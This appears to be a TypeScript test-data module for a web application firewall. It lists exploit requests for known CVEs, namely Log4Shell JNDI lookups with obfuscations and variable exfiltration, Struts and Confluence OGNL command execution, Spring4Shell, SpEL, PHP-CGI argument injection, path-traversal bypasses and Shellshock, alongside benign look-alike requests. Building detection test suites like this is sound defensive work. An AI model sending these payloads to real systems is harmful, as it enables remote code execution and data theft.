// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are lookups and OGNL/SpEL expressions written "${...}", not templates
import type { WafPlace } from '../helpers/waf-send.js';
import { cross, type Material, type MaterialCase, type MaterialRequest } from './types.js';

// Exploits of widely scanned CVEs, in the request shapes their public exploits take: Log4Shell
// (in the headers applications log, with the lookups that spell "jndi"), Struts OGNL (the
// Content-Type of S2-045, a namespace in the path, parameter values), Spring4Shell's class-loader
// walk and Spring Cloud's SpEL, Confluence OGNL (path and template parameters), Citrix ADC
// traversal, PHP-CGI argument injection (the soft hyphen of CVE-2024-4577), path-normalisation
// bypasses of reverse proxies and servlet containers (Tomcat "..;/", Apache 2.4.49/50's encoded
// dots, F5's "/..;/"). The benign side: template placeholders, ordinary header values, paths
// with a session path parameter, query strings starting with a hyphen, "class" as a word.

const LOG4SHELL: [string, string][] = [
  ['${jndi:ldap://198.51.100.7:1389/a}', 'plain ldap'],
  ['${jndi:rmi://198.51.100.7/x}', 'rmi'],
  ['${jndi:dns://x.oast.example/a}', 'dns'],
  ['${jndi:ldaps://x.oast.example/a}', 'ldaps'],
  ['${${lower:j}ndi:ldap://x.oast.example/a}', 'lower lookup'],
  ['${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://x.oast.example/a}', 'upper lookups'],
  ['${${::-j}${::-n}${::-d}${::-i}:rmi://x.oast.example/a}', 'default-value lookups'],
  ['${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x.oast.example/a}', 'env defaults'],
  ['${j${k8s:k5:-ND}i:ldap://x.oast.example/a}', 'k8s default inside the word'],
  ['${${sys:nope:-j}${sys:nope:-n}di:ldap://x.oast.example/a}', 'sys defaults'],
  ["${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x.oast.example/a}", 'date lookups'],
  ['${jndi:${lower:l}${lower:d}${lower:a}${lower:p}://x.oast.example/a}', 'scheme spelled by lookups'],
  ['${${::-j}ndi:dns://${env:USER}.x.oast.example}', 'exfiltration of a variable'],
  ['${jndi:ldap://127.0.0.1#x.oast.example/a}', 'CVE-2021-45046 hash host'],
  ['${ jndi : ldap://x.oast.example/a}', 'spaces'],
  ['${${::-j}nd${upper:ı}:ldap://x.oast.example/a}', 'dotless i upper-cased to I'],
  ['${j${::-n}di:ldap://x.oast.example/a}', 'a default inside the word'],
  ['${${lower:${lower:j}}ndi:ldap://x.oast.example/a}', 'nested lookups'],
  ['${jndi:ldap://x.oast.example/${sys:java.version}}', 'exfiltration in the path'],
];

/** Headers applications log or read (those the WAF reads for other groups and those it skips). */
const LOGGED_HEADERS = [
  'User-Agent',
  'Referer',
  'X-Forwarded-For',
  'X-Api-Version',
  'Accept-Language',
  'Authorization',
  'If-None-Match',
  'X-Request-Id',
  'Origin',
  'X-Client-Ip',
  'Accept',
  'Cookie',
];

const OGNL = [
  "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']))).(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd)).(#p.start())}",
  "%{#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess.allowStaticMethodAccess=true,@java.lang.Runtime@getRuntime().exec('id')}",
  "%{(#instancemanager=#application['org.apache.tomcat.InstanceManager']).(#stack=#attr['com.opensymphony.xwork2.util.ValueStack.ValueStack']).(#bean=#instancemanager.newInstance('org.apache.commons.collections.BeanMap'))}",
  "${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('id').getInputStream(),'utf-8'))}",
  "redirect:${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'id'}).start()}",
  "action:${@java.lang.Runtime@getRuntime().exec('id')}",
  '\\u0027+#{\\u0022\\u0022[\\u0022class\\u0022].forName(\\u0022javax.script.ScriptEngineManager\\u0022).newInstance()}+\\u0027',
];

const SPEL = [
  'T(java.lang.Runtime).getRuntime().exec("id")',
  '#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{"id"}).getInputStream()))}',
  "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}",
];

const SPRING4SHELL: [string, string][] = [
  [
    'class.module.classLoader.resources.context.parent.pipeline.first.pattern',
    '%{c2}i if("j".equals(request.getParameter("pwd")))',
  ],
  ['class.module.classLoader.resources.context.parent.pipeline.first.suffix', '.jsp'],
  ['class.module.classLoader.resources.context.parent.pipeline.first.directory', 'webapps/ROOT'],
  ["class['module']['classLoader'].resources.context.parent.pipeline.first.prefix", 'tomcatwar'],
  ['class.classLoader.URLs[0]', 'jar:http://198.51.100.7/x.jar!/'],
];

const PLACES: { place: WafPlace; name: string }[] = [
  { place: 'query', name: 'q' },
  { place: 'form', name: 'name' },
  { place: 'json', name: 'title' },
  { place: 'xml', name: 'comment' },
  { place: 'multipart', name: 'description' },
  { place: 'cookie', name: 'pref' },
  { place: 'header', name: 'trace' },
];

const get = (path: string, headers: Record<string, string> = {}): MaterialRequest => ({ method: 'GET', path, headers });
const post = (path: string, type: string, body: string, headers: Record<string, string> = {}): MaterialRequest => ({
  method: 'POST',
  path,
  headers: { 'content-type': type, ...headers },
  body,
});
const whole = (how: string, request: MaterialRequest): MaterialCase => ({
  place: request.body === undefined ? 'path' : 'form',
  name: '',
  value: '',
  how,
  request,
});

/** Requests as the exploits send them (raw paths and query strings, headers, routes). */
const REQUESTS: MaterialCase[] = [
  // Struts
  whole('S2-045 (CVE-2017-5638) Content-Type', post('/upload.action', OGNL[0] as string, 'x=1')),
  whole(
    'S2-046 (CVE-2017-5638) multipart file name',
    post(
      '/upload.action',
      'multipart/form-data; boundary=b0',
      `--b0\r\nContent-Disposition: form-data; name="f"; filename="${OGNL[1]}\u0000b"\r\nContent-Type: text/plain\r\n\r\nx\r\n--b0--\r\n`,
    ),
  ),
  whole(
    'S2-057 (CVE-2018-11776) namespace in the path',
    get(
      `/${encodeURIComponent("${(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}")}/actionChain1.action`,
    ),
  ),
  whole('S2-016 redirect prefix in the query', get(`/index.action?${encodeURIComponent(OGNL[4] as string)}`)),
  whole('S2-061 (CVE-2020-17530) id parameter', get(`/index.action?id=${encodeURIComponent(OGNL[2] as string)}`)),
  // Confluence
  whole('Confluence CVE-2022-26134 OGNL in the path', get(`/${encodeURIComponent(OGNL[3] as string)}/`)),
  whole(
    'Confluence CVE-2022-26134 with the setHeader echo',
    get(
      `/%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork.ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/`,
    ),
  ),
  whole(
    'Confluence CVE-2021-26084 queryString',
    post(
      '/pages/doenterpagevariables.action',
      'application/x-www-form-urlencoded',
      `queryString=${encodeURIComponent(OGNL[6] as string)}`,
    ),
  ),
  whole(
    'Confluence CVE-2023-22527 template label',
    post(
      '/template/aui/text-inline.vm',
      'application/x-www-form-urlencoded',
      `label=${encodeURIComponent('\\u0027+#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})+\\u0027')}&x=${encodeURIComponent("@org.apache.struts2.ServletActionContext@getResponse().setHeader('X',(new freemarker.template.utility.Execute()).exec({'id'}))")}`,
    ),
  ),
  whole(
    'Confluence CVE-2023-22515 setup flag',
    get('/server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false'),
  ),
  // Spring
  // (CVE-2022-22963's own header, "spring.cloud.function.routing-expression", never reaches an
  // origin through the edge: nginx drops a header name with dots; the same SpEL in headers it keeps)
  whole(
    'SpEL type reference in X-Api-Version',
    post('/functionRouter', 'text/plain', 'x', { 'X-Api-Version': SPEL[0] as string }),
  ),
  whole('SpEL type reference in X-Request-Id', get('/app', { 'X-Request-Id': SPEL[0] as string })),
  whole('SpEL type reference in Accept-Language', get('/app', { 'Accept-Language': `en, ${SPEL[0]}` })),
  whole(
    'Spring Cloud Gateway CVE-2022-22947 route filter',
    post(
      '/actuator/gateway/routes/x',
      'application/json',
      JSON.stringify({
        id: 'x',
        filters: [{ name: 'AddResponseHeader', args: { name: 'Result', value: SPEL[1] } }],
        uri: 'http://example.com',
      }),
    ),
  ),
  // Citrix ADC / Gateway
  whole('Citrix CVE-2019-19781 smb.conf', get('/vpn/../vpns/cfg/smb.conf')),
  whole('Citrix CVE-2019-19781 encoded climb', get('/vpn/%2e%2e/vpns/cfg/smb.conf')),
  whole(
    'Citrix CVE-2019-19781 newbm.pl with NSC_USER',
    post(
      '/vpns/portal/scripts/newbm.pl',
      'application/x-www-form-urlencoded',
      `url=http://example.com&title=${encodeURIComponent("[% template.new({'BLOCK'='print `id`'}) %]")}&desc=x&UI_inuse=RfWeb`,
      { NSC_USER: '../../../netscaler/portal/templates/x', NSC_NONCE: 'nsroot' },
    ),
  ),
  // PHP-CGI
  whole(
    'PHP-CGI CVE-2012-1823 -d options',
    get('/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input'),
  ),
  whole('PHP-CGI CVE-2012-1823 source disclosure', get('/index.php?-s')),
  whole(
    'PHP-CGI CVE-2024-4577 soft hyphen',
    get(
      '/php-cgi/php-cgi.exe?%ADd+cgi.force_redirect%3d0+%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input',
    ),
  ),
  whole(
    'PHP-CGI CVE-2024-4577 upper-case escape',
    get('/test.php?%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp%3A//input'),
  ),
  whole(
    'PHP-CGI options encoded hyphen',
    get('/index.php?%2dd+allow_url_include%3d1+%2dd+auto_prepend_file%3dphp://input'),
  ),
  // Path-normalisation bypasses
  whole('Tomcat ..;/ to the manager', get('/app/..;/manager/html')),
  whole('Tomcat /;/ segment', get('/;/admin/console')),
  whole('Spring .;/ to the actuator', get('/api/.;/actuator/env')),
  whole('F5 BIG-IP CVE-2020-5902', get('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd')),
  // (under enough segments that the climb stays below the root: nginx itself answers 400 to one
  // above it, and to the malformed escapes of CVE-2021-42013's "%%32%65")
  whole('Apache CVE-2021-41773 .%2e', get('/cgi-bin/a/b/c/d/.%2e/.%2e/.%2e/.%2e/etc/passwd')),
  whole('Apache CVE-2021-42013 double-encoded dots', get('/icons/a/b/c/.%252e/.%252e/.%252e/etc/passwd')),
  whole('encoded slash climb', get('/static/a/b/c/..%2f..%2f..%2fetc%2fpasswd')),
  whole('double-encoded slash climb', get('/static/..%252f..%252f..%252fetc%252fpasswd')),
  whole('Fortinet CVE-2018-13379', get('/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession')),
  whole('IIS 8.3 short-name tilde with a climb', get('/files/..%5c..%5c..%5cwindows%5cwin.ini')),
  // Shellshock and Text4Shell, still scanned for
  whole(
    'Shellshock CVE-2014-6271 User-Agent',
    get('/cgi-bin/status', { 'User-Agent': "() { :; }; /bin/bash -c 'id'" }),
  ),
  whole('Text4Shell CVE-2022-42889', get(`/search?q=${encodeURIComponent(SPEL[2] as string)}`)),
  // Log4Shell where the value reaches a logger as sent
  whole('Log4Shell in the path', get(`/${encodeURIComponent('${jndi:ldap://x.oast.example/a}')}/index.html`)),
  whole(
    'Log4Shell fully %-encoded in the query',
    get('/app?q=%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2Fx.oast.example%2Fa%7D'),
  ),
  whole(
    'Log4Shell as JSON escapes',
    post('/api/log', 'application/json', '{"msg":"\\u0024\\u007bjndi:ldap://x.oast.example/a\\u007d"}'),
  ),
  whole('Log4Shell in a cookie name', get('/app', { Cookie: '${jndi:ldap://x.oast.example/a}=1' })),
];

function attacks(): MaterialCase[] {
  const out: MaterialCase[] = [];
  // Log4Shell in every logged header, and in every part of a request
  LOG4SHELL.forEach(([value, how], i) => {
    for (const k of [0, 4, 8]) {
      const header = LOGGED_HEADERS[(i + k) % LOGGED_HEADERS.length] as string;
      const v =
        header === 'Authorization'
          ? `Bearer ${value}`
          : header === 'Cookie'
            ? `sid=${encodeURIComponent(value)}`
            : value;
      // (bytes beyond Latin-1 as their UTF-8, which is what a client puts on the wire)
      const wire = Buffer.from(v, 'utf8').toString('latin1');
      out.push(whole(`Log4Shell (CVE-2021-44228), ${how}, ${header}`, get('/app?page=1', { [header]: wire })));
    }
    const where = PLACES[i % PLACES.length] as { place: WafPlace; name: string };
    out.push({ ...where, value, how: `Log4Shell, ${how}, ${where.place}` });
  });
  for (const [value, where] of cross(OGNL.slice(0, 6), PLACES.slice(0, 4)))
    out.push({ ...where, value, how: `OGNL, ${where.place}` });
  for (const [name, value] of SPRING4SHELL) {
    out.push(
      whole(
        `Spring4Shell (CVE-2022-22965) ${name.split('.').pop()}, form`,
        post('/app', 'application/x-www-form-urlencoded', `${encodeURIComponent(name)}=${encodeURIComponent(value)}`),
      ),
    );
    out.push(
      whole(
        `Spring4Shell (CVE-2022-22965) ${name.split('.').pop()}, query`,
        get(`/app?${encodeURIComponent(name)}=${encodeURIComponent(value)}`),
      ),
    );
  }
  for (const [value, where] of cross(SPEL.slice(0, 2), PLACES.slice(0, 3)))
    out.push({ ...where, value, how: `SpEL, ${where.place}` });
  out.push(...REQUESTS);
  return out;
}

const BENIGN_VALUES = [
  'Hello ${user.firstName}, your order ${order.id} has shipped',
  '%{count} items in your basket',
  '#{product.price} EUR',
  'use ${HOME}/bin and ${PATH}',
  'The class module loader in Java 9 replaced the extension class loader',
  'btn btn-primary class-name',
  'Runtime error: getRuntime() returned null',
  'see https://logging.apache.org/log4j/2.x/security.html for the fix',
  'Price: $ {5} per month',
  'set the JNDI name java:comp/env/jdbc/shop in the context',
  'Sayın ${name}, kapı açık: ${upper:ılık}',
];

const BENIGN_REQUESTS: MaterialCase[] = [
  whole('session path parameter', get('/shop/cart;jsessionid=1A2B3C4D5E6F?item=7')),
  whole('a file name with two dots', get('/files/report..final.pdf')),
  whole('a hyphenated sort order', get('/products?-price')),
  whole('a negative number query', get('/chart?-5')),
  whole('the VPN page itself', get('/vpn/index.html')),
  whole('encoded spaces in the path', get('/docs/release%20notes/2024.pdf')),
  whole('an encoded slash in an id', get('/api/packages/%40scope%2Fname')),
  whole('a dot file under well-known', get('/.well-known/security.txt')),
  whole('an Accept-Language list', get('/app', { 'Accept-Language': 'en-US,en;q=0.9,fr;q=0.8' })),
  whole('an ETag', get('/app', { 'If-None-Match': 'W/"5e-1a2b3c"' })),
  whole(
    'a bearer token',
    get('/api/me', { Authorization: 'Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl' }),
  ),
  whole(
    'a template in a JSON body',
    post('/api/templates', 'application/json', JSON.stringify({ body: 'Dear ${name}, see #{link}' })),
  ),
  whole('a class parameter', get('/app?class=economy&module=3')),
  whole('a content type with a charset', post('/api', 'application/json; charset=utf-8', '{"a":1}')),
];

export const cve: Material = {
  sources: [
    'CVE-2021-44228 and CVE-2021-45046 (Apache Log4j advisories); the lookup obfuscations listed by Cloudflare, "Exploitation of Log4j CVE-2021-44228 before public disclosure and evolution of evasion and exfiltration" (2021) and in PayloadsAllTheThings "CVE Exploits/Log4Shell"',
    'Apache Struts bulletins S2-016, S2-045/S2-046 (CVE-2017-5638), S2-057 (CVE-2018-11776), S2-061 (CVE-2020-17530)',
    'Spring advisories CVE-2022-22965 (Spring4Shell), CVE-2022-22963 (Spring Cloud Function), CVE-2022-22947 (Spring Cloud Gateway); CVE-2010-1622',
    'Atlassian Confluence advisories CVE-2021-26084, CVE-2022-26134, CVE-2023-22515, CVE-2023-22527',
    'Citrix CTX267027 (CVE-2019-19781); F5 K52145254 (CVE-2020-5902); Fortinet FG-IR-18-384 (CVE-2018-13379)',
    'PHP-CGI CVE-2012-1823 and CVE-2024-4577 (DEVCORE\'s advisory on the soft hyphen "%AD")',
    'Apache httpd CVE-2021-41773 and CVE-2021-42013; Orange Tsai, "Breaking Parser Logic!" (Black Hat USA 2018) for "..;/"',
    'CVE-2014-6271 (Shellshock), CVE-2022-42889 (Text4Shell)',
  ],
  attacks: attacks(),
  benign: [
    ...cross(PLACES, BENIGN_VALUES).map(([where, value]) => ({ ...where, value, how: 'benign look-alike' })),
    ...BENIGN_REQUESTS,
  ],
};
